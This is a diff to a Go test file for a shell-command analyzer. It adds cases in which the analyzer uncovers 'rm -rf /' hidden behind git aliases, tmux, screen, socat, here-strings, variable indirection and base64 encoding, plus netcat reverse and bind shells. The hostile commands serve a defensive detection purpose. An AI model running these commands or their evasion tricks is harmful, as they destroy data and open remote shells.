@@ -2,6 +2,7 @@ package shell
 
 import (
 	"errors"
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -273,6 +274,27 @@ var analyzeCases = []struct {
 	{"git -c alias.x='!rm -rf /' x", []string{"git -c \"alias.x=!rm -rf /\" x", "rm -rf / |via=git -c alias.x |wrap=git"}},
 	{"GIT_SSH_COMMAND='rm -rf /' git fetch", []string{"git fetch", "rm -rf / |via=GIT_SSH_COMMAND= |wrap=git"}},
 	{"vim -c ':!rm -rf /' x", []string{"vim -c \":!rm -rf /\" x |code=inline"}},
+	{"rm -rf ${HOME:?}/", []string{"rm -rf ~/"}},
+	{"x=/tmp; rm -rf ${x:+/etc} ${x:-/var} ${y:-/z}", []string{"rm -rf /etc /tmp <*>"}},
+	{"git config --global alias.x '!rm -rf /'", []string{"git config --global alias.x \"!rm -rf /\"", "rm -rf / |via=git config alias.x |wrap=git"}},
+	{"nc -e /bin/sh 1.2.3.4 4444", []string{"nc -e /bin/sh 1.2.3.4 4444", "sh |via=nc -e |code=piped |wrap=nc"}},
+	{"nc -lvpe /bin/bash 4444", []string{"nc -lvpe /bin/bash 4444", "bash |via=nc -e |code=piped |wrap=nc"}},
+	{"ncat --sh-exec 'rm -rf /' -l 80", []string{"ncat --sh-exec \"rm -rf /\" -l 80", "rm -rf / |via=ncat -c |wrap=ncat"}},
+	{"socat TCP:h:80 EXEC:'bash -li',pty", []string{"socat TCP:h:80 \"EXEC:bash -li,pty\"", "bash -li |via=socat exec |code=piped |wrap=socat"}},
+	{"socat - SYSTEM:'rm -rf /'", []string{"socat - \"SYSTEM:rm -rf /\"", "rm -rf / |via=socat system |wrap=socat"}},
+	{"tmux new -d 'rm -rf /'", []string{"tmux new -d \"rm -rf /\"", "rm -rf / |via=tmux new |wrap=tmux"}},
+	{"tmux new-session -d -s x 'rm -rf /'", []string{"tmux new-session -d -s x \"rm -rf /\"", "rm -rf / |via=tmux new-session |wrap=tmux"}},
+	{"tmux send-keys 'rm -rf /' Enter", []string{"tmux send-keys \"rm -rf /\" Enter |code=inline"}},
+	{"screen -dmS x rm -rf /", []string{"screen -dmS x rm -rf /", "rm -rf / |via=screen |wrap=screen"}},
+	{"screen -S x -X stuff 'rm -rf /'", []string{"screen -S x -X stuff \"rm -rf /\" |code=inline"}},
+	{"bash /dev/stdin <<< 'rm -rf /'", []string{"bash /dev/stdin", "rm -rf / |via=bash <<< |wrap=bash"}},
+	{"exec 3<<<'rm -rf /'; bash <&3", []string{"exec", "bash |code=piped"}},
+	{"read -r c <<< rm; $c -rf /", []string{"read -r c", "<*> -rf /"}},
+	{"printf -v c rm; $c -rf /", []string{"printf -v c rm", "<*> -rf /"}},
+	{"cmd=(rm -rf /); \"${cmd[@]}\"", []string{"<*>"}},
+	{"find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", []string{"find . -exec sh -c \"rm -rf \\\"$1\\\"\" _ {} ;", "sh -c \"rm -rf \\\"$1\\\"\" _ <*> |via=find -exec |wrap=find", "rm -rf <*> |via=sh -c |wrap=find,sh"}},
+	{"{\"rm\",-rf,/}", []string{"rm -rf /"}},
+	{"echo cm0gLXJmIC8K | base64 -d | sh", []string{"echo cm0gLXJmIC8K", "base64 -d", "sh |code=piped"}},
 	{"echo rm -rf /", []string{"echo rm -rf /"}},
 	{"grep -rn \"rm -rf\" docs/", []string{"grep -rn \"rm -rf\" docs/"}},
 	{"git commit -m \"docs: warn against rm -rf\"", []string{"git commit -m \"docs: warn against rm -rf\""}},
@@ -577,5 +599,44 @@ func TestCodeKindString(t *testing.T) {
 		if got := k.String(); got != want {
 			t.Errorf("%d.String() = %q, want %q", int(k), got, want)
 		}
+	}
+}
+
+// TestConcurrent checks that concurrent analyses (sharing the parser pool)
+// give the same results as sequential ones, and that a result does not
+// change when later analyses reuse pooled state.
+func TestConcurrent(t *testing.T) {
+	want := make([][]string, len(analyzeCases))
+	for i, tc := range analyzeCases {
+		want[i] = summaries(mustAnalyze(t, tc.src))
+	}
+	kept := mustAnalyze(t, bench200)
+	keptWant := summaries(kept)
+	done := make(chan error, 4)
+	for g := 0; g < 4; g++ {
+		go func() {
+			for round := 0; round < 5; round++ {
+				for i, tc := range analyzeCases {
+					s, err := Analyze(tc.src, Limits{})
+					if err != nil {
+						done <- err
+						return
+					}
+					if got := summaries(s); !equalSlices(got, want[i]) {
+						done <- fmt.Errorf("%q: got %q, want %q", tc.src, got, want[i])
+						return
+					}
+				}
+			}
+			done <- nil
+		}()
+	}
+	for g := 0; g < 4; g++ {
+		if err := <-done; err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := summaries(kept); !equalSlices(got, keptWant) {
+		t.Errorf("an earlier result changed: %q, want %q", got, keptWant)
 	}
 }
